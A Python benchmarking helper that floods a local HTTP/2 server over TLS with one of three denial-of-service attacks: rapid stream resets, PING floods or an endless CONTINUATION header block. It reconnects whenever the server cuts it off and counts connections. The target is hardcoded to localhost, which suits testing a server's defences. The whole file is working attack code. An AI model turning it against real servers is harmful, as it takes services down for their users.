#!/usr/bin/env python3
"""One HTTP/2 flooding client for bench/h2.sh: over TLS (ALPN h2), it sends one attack as fast
as the socket takes it, reconnects whenever the server cuts it off, and prints how many
connections it opened in the given seconds.

Usage: h2flood.py rapid-reset|ping|continuation PORT SECONDS
"""
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


BLOCK = literal(b":method", b"GET") + literal(b":scheme", b"https") + literal(b":path", b"/1k") + literal(b":authority", b"localhost")


def batch(attack, i):
    """About 16 KB of the attack, starting at round i."""
    out = []
    if attack == "rapid-reset":
        for n in range(i, i + 200):
            sid = 2 * n + 1
            out.append(frame(1, 5, sid, BLOCK) + frame(3, 0, sid, struct.pack(">I", 8)))
    elif attack == "ping":
        out = [frame(6, 0, 0, struct.pack(">Q", n)) for n in range(i, i + 900)]
    else:  # continuation: one header block that never ends
        if i == 0:
            out.append(frame(1, 0, 1, BLOCK))
        out += [frame(9, 0, 1, literal(b"x-flood", b"a" * 100)) for _ in range(140)]
    return b"".join(out)


def main():
    attack, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    end = time.monotonic() + seconds
    connections = 0
    while time.monotonic() < end:
        try:
            raw = socket.create_connection(("127.0.0.1", port), timeout=2)
            s = ctx.wrap_socket(raw, server_hostname="localhost")
        except OSError:
            continue
        connections += 1
        try:
            s.sendall(PREFACE + frame(4, 0, 0))
            i = 0
            while time.monotonic() < end:
                s.sendall(batch(attack, i))
                i += 200 if attack == "rapid-reset" else 900
        except (OSError, ssl.SSLError):
            pass
        finally:
            s.close()
    print(connections)


if __name__ == "__main__":
    main()
